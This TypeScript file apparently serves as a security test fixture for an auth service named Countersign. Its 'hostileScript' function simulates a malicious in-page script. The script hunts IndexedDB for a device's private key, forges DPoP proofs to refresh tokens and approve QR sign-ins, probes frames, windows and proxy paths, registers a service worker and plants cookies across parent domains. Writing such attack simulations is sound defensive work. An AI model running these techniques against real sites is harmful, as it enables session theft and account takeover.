/** What the script came away with; each line is a success of the attacker. */
export type Loot = string[];

interface Target {
  readonly accounts: string;
  readonly qrId: string;
  /** What Countersign calls its cookies: no secret. */
  readonly cookieNames: readonly string[];
}

/**
 * Somebody's script in a page, which wants to act as the user who looks at it: the device's key, the refresh cookie, a
 * computer's code approved. It runs in the page and knows nothing of this file.
 */
export async function hostileScript({ accounts, qrId, cookieNames }: Target): Promise<Loot> {
  const loot: Loot = [];
  const encode = (bytes: ArrayBuffer | Uint8Array) =>
    btoa(String.fromCharCode(...new Uint8Array(bytes)))
      .replaceAll("+", "-")
      .replaceAll("/", "_")
      .replaceAll("=", "");
  const request = <T>(wanted: IDBRequest<T>) =>
    new Promise<T>((resolve, reject) => {
      wanted.onsuccess = () => resolve(wanted.result);
      wanted.onerror = () => reject(wanted.error);
    });

  async function findKey(): Promise<CryptoKeyPair | undefined> {
    for (const { name = "" } of await indexedDB.databases()) {
      const database = await request(indexedDB.open(name));
      for (const store of database.objectStoreNames) {
        for (const value of await request(database.transaction(store).objectStore(store).getAll())) {
          if (value?.privateKey instanceof CryptoKey) return value;
        }
      }
    }
    return undefined;
  }

  async function prove(key: CryptoKeyPair, path: string, token?: string): Promise<string> {
    const { kty, crv, x, y } = await crypto.subtle.exportKey("jwk", key.publicKey);
    const text = new TextEncoder();
    const ath =
      token === undefined ? {} : { ath: encode(await crypto.subtle.digest("SHA-256", text.encode(token))) };
    const claims = { htm: "POST", htu: accounts + path, jti: crypto.randomUUID(), ...ath };
    const iat = Math.floor(Date.now() / 1000);
    const header = { typ: "dpop+jwt", alg: "ES256", jwk: { kty, crv, x, y } };
    const parts = [header, { ...claims, iat }].map((part) => encode(text.encode(JSON.stringify(part))));
    const algorithm = { name: "ECDSA", hash: "SHA-256" };
    const signature = await crypto.subtle.sign(algorithm, key.privateKey, text.encode(parts.join(".")));
    return [...parts, encode(signature)].join(".");
  }

  /** With cookies; with a proof by whichever key there is. @returns what it could read, undefined when nothing */
  async function call(path: string, key: CryptoKeyPair, body: object, token?: string) {
    const headers = {
      "content-type": "application/json",
      dpop: await prove(key, path, token),
      ...(token === undefined ? {} : { authorization: `DPoP ${token}` }),
    };
    const init = { method: "POST", credentials: "include", headers, body: JSON.stringify(body) } as const;
    const answer = await fetch(accounts + path, init).catch(() => undefined);
    return answer?.ok ? answer.json().catch(() => ({})) : undefined;
  }

  const kept = await findKey();
  if (kept) loot.push("the device's key");
  const made = await crypto.subtle.generateKey({ name: "ECDSA", namedCurve: "P-256" }, true, [
    "sign",
    "verify",
  ]);
  for (const key of kept ? [kept] : [made]) {
    const tokens = await call("/api/auth/refresh-token", key, {});
    if (tokens === undefined) continue;
    loot.push("an access token");
    const scanned = await call("/api/auth/qr/scan", key, { qr_id: qrId }, tokens.access_token);
    if (scanned === undefined) continue;
    const approved = await call("/api/auth/qr/confirm", key, { ticket: scanned.ticket }, tokens.access_token);
    if (approved !== undefined) loot.push("an approved computer");
  }

  // Without reading the answer: what it does would be enough.
  for (const path of ["/api/auth/logout", "/api/auth/refresh-token", "/api/auth/qr/scan"]) {
    await fetch(accounts + path, { method: "POST", mode: "no-cors", credentials: "include" }).catch(() => {});
  }
  for (const path of ["/", "/api/auth/me", "/api/auth/verify", "/api/auth/sessions", "/sign-out"]) {
    const answer = await fetch(accounts + path, { credentials: "include" }).catch(() => undefined);
    if (answer?.ok && answer.type !== "opaque") loot.push(`the answer of ${path}`);
  }

  for (const path of ["/", "/sign-out", "/hand-over"]) {
    const frame = document.createElement("iframe");
    frame.src = accounts + path;
    document.body.append(frame);
    await new Promise((done) => {
      frame.onload = done;
      setTimeout(done, 2_000);
    });
    try {
      const text = frame.contentDocument?.body.innerText ?? "";
      if (/ada|Sign out/.test(text)) loot.push(`the page ${path} in a frame`);
    } catch {
      // Another origin.
    }
  }

  const opened = window.open(`${accounts}/`);
  addEventListener("message", () => loot.push("a message from Countersign's window"));
  for (let round = 0; round < 10 && opened !== null; round += 1) {
    await new Promise((done) => setTimeout(done, 100));
    opened.postMessage("who are you?", "*");
  }
  if (opened !== null && !opened.closed && location.origin !== accounts)
    loot.push("a hold of Countersign's window");

  if (/countersign/i.test(document.cookie)) loot.push("a cookie of Countersign");
  const worker = await navigator.serviceWorker?.register("/worker.js", { scope: "/" }).catch(() => undefined);
  if (worker) loot.push("a service worker");

  // Where a fetch might reach Countersign through the site's own proxy.
  for (const path of ["/api/auth/me", "/api/auth/site/code", "/_countersign", "/.countersign/finish"]) {
    const body = new URLSearchParams({ code: "x", state: "AbCdEfGhIjKlMnOpQr_-12" });
    const answer = await fetch(path, { method: "POST", body, redirect: "manual" });
    if (location.origin !== accounts && /"(user|code)"/.test(await answer.text()))
      loot.push(`${path} of the proxy`);
  }

  const host = new URL(accounts).hostname;
  const domains = host.split(".").map((_, index, all) => all.slice(index).join("."));
  for (const name of cookieNames) {
    for (const domain of domains) {
      // biome-ignore lint/suspicious/noDocumentCookie: it is what an attacker would write
      document.cookie = `${name}=planted; domain=${domain}; path=/${location.protocol === "https:" ? "; secure" : ""}`;
    }
  }
  return loot;
}
